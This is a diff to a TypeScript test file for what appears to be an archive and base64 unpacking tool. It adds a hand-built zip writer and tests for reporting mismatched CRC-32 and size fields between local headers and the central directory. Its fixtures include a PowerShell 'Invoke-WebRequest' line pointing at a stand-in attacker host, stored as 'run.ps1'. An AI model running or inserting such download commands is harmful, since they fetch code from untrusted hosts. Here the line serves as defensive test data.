@@ -177,3 +177,107 @@ test("base64 unpacking: a damaged gzip or zip is unpacked all the same, and its 
   assert.equal(z.items[0].decodedString, "Invoke-WebRequest -Uri http://evil.example/x");
   assert.match(String(z.items[0].limit), CRC_NOTE);
 });
+
+/** A stored member of {@link handZip}, with what its local header states where that differs from the truth. */
+interface HandMember {
+  name: string;
+  data: Buffer;
+  flags?: number;
+  local?: { crc?: number; compressedSize?: number; size?: number };
+  /** A data descriptor (signature, CRC-32, sizes) after the data, as writers do under flag 8. */
+  descriptor?: boolean;
+}
+
+/** A zip of stored members built byte by byte: local headers, data (and descriptors), central directory, end record. */
+function handZip(members: HandMember[]): Buffer {
+  const parts: Buffer[] = [];
+  const central: Buffer[] = [];
+  let offset = 0;
+  for (const m of members) {
+    const name = Buffer.from(m.name);
+    const crc = zlib.crc32(m.data);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(m.flags ?? 0, 6);
+    local.writeUInt32LE(m.local?.crc ?? crc, 14);
+    local.writeUInt32LE(m.local?.compressedSize ?? m.data.length, 18);
+    local.writeUInt32LE(m.local?.size ?? m.data.length, 22);
+    local.writeUInt16LE(name.length, 26);
+    const descriptor = Buffer.alloc(m.descriptor ? 16 : 0);
+    if (m.descriptor) {
+      descriptor.writeUInt32LE(0x08074b50, 0);
+      descriptor.writeUInt32LE(crc, 4);
+      descriptor.writeUInt32LE(m.data.length, 8);
+      descriptor.writeUInt32LE(m.data.length, 12);
+    }
+    const entry = Buffer.alloc(46);
+    entry.writeUInt32LE(0x02014b50, 0);
+    entry.writeUInt16LE(20, 4);
+    entry.writeUInt16LE(20, 6);
+    entry.writeUInt16LE(m.flags ?? 0, 8);
+    entry.writeUInt32LE(crc, 16);
+    entry.writeUInt32LE(m.data.length, 20);
+    entry.writeUInt32LE(m.data.length, 24);
+    entry.writeUInt16LE(name.length, 28);
+    entry.writeUInt32LE(offset, 42);
+    central.push(entry, name);
+    parts.push(local, name, m.data, descriptor);
+    offset += local.length + name.length + m.data.length + descriptor.length;
+  }
+  const dir = Buffer.concat(central);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(members.length, 8);
+  end.writeUInt16LE(members.length, 10);
+  end.writeUInt32LE(dir.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...parts, dir, end]);
+}
+
+const HEADER_NOTE = /^corrupt data: the local header and the central directory disagree: /;
+
+test("zip: a local header whose CRC-32 or sizes disagree with the central directory is noted and the member kept; flag 8's zeros and zip64 sizes are no disagreement", () => {
+  const a = PAYLOADS[2];
+  const b = PAYLOADS[3];
+  const crcA = zlib.crc32(a);
+  const read = (members: HandMember[]) => readArchive(handZip(members), "zip", limits());
+  const ok = read([{ name: "a.txt", data: a }, { name: "b.bin", data: b }]);
+  assert.deepEqual(ok.members.map((m) => [m.name, m.note, Buffer.from(m.bytes).equals(m.name === "a.txt" ? a : b)]), [["a.txt", undefined, true], ["b.bin", undefined, true]]);
+
+  // The bytes have the directory's CRC-32; the local header states another.
+  const crc = read([{ name: "a.txt", data: a, local: { crc: (crcA ^ 0x10) >>> 0 } }, { name: "b.bin", data: b }]);
+  assert.equal(
+    crc.members[0].note,
+    `corrupt data: the local header and the central directory disagree: the local header states CRC-32 0x${((crcA ^ 0x10) >>> 0).toString(16).padStart(8, "0")}, the directory CRC-32 0x${crcA.toString(16).padStart(8, "0")}`,
+  );
+  assert.ok(Buffer.from(crc.members[0].bytes).equals(a), "the member is kept whole");
+  assert.equal(crc.members[1].note, undefined);
+  assert.equal(crc.note, undefined);
+
+  // Sizes: the directory's are read (all the bytes), the local header's stated beside them.
+  const sizes = read([{ name: "a.txt", data: a }, { name: "b.bin", data: b, local: { compressedSize: 10, size: 10 } }]);
+  assert.equal(sizes.members[0].note, undefined);
+  assert.equal(sizes.members[1].note, `corrupt data: the local header and the central directory disagree: the local header states compressed size 10, size 10, the directory compressed size ${b.length}, size ${b.length}`);
+  assert.ok(Buffer.from(sizes.members[1].bytes).equals(b));
+  assert.match(read([{ name: "a.txt", data: a, local: { size: a.length + 1 } }]).members[0].note ?? "", new RegExp(`${HEADER_NOTE.source}the local header states size ${a.length + 1}, the directory size ${a.length}$`));
+
+  // Flag 8: the local header's zeros mean "in the data descriptor", as the format says; a value it does state is compared.
+  const streamed = read([{ name: "a.txt", data: a, flags: 8, local: { crc: 0, compressedSize: 0, size: 0 }, descriptor: true }, { name: "b.bin", data: b, flags: 8, local: { crc: 0, compressedSize: 0, size: 0 }, descriptor: true }]);
+  assert.deepEqual(streamed.members.map((m) => [m.name, m.note, m.bytes.length]), [["a.txt", undefined, a.length], ["b.bin", undefined, b.length]]);
+  assert.match(read([{ name: "a.txt", data: a, flags: 8, local: { crc: 1, compressedSize: 0, size: 0 }, descriptor: true }]).members[0].note ?? "", HEADER_NOTE);
+  // A zip64 local header (sizes in its extra field) is not compared by size.
+  assert.equal(read([{ name: "a.txt", data: a, local: { compressedSize: 0xffffffff, size: 0xffffffff } }]).members[0].note, undefined);
+
+  // Bytes that match the local header but not the directory: both are stated, the CRC-32 mismatch first.
+  const zip = handZip([{ name: "a.txt", data: a }]);
+  const dirCrc = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 16;
+  const flipped = readArchive(flip(zip, dirCrc), "zip", limits()).members[0].note ?? "";
+  assert.match(flipped, CRC_NOTE);
+  assert.match(flipped, new RegExp(`; the local header and the central directory disagree: the local header states CRC-32 0x${crcA.toString(16).padStart(8, "0")}, the directory CRC-32 0x`));
+
+  // Base64 unpacking shows the note as the item's limit, the content unpacked all the same.
+  const unpacked = base64.unpack(handZip([{ name: "run.ps1", data: Buffer.from("Invoke-WebRequest -Uri http://evil.example/x"), local: { crc: 7 } }]).toString("base64"));
+  assert.equal(unpacked.items[0].decodedString, "Invoke-WebRequest -Uri http://evil.example/x");
+  assert.match(String(unpacked.items[0].limit), HEADER_NOTE);
+});
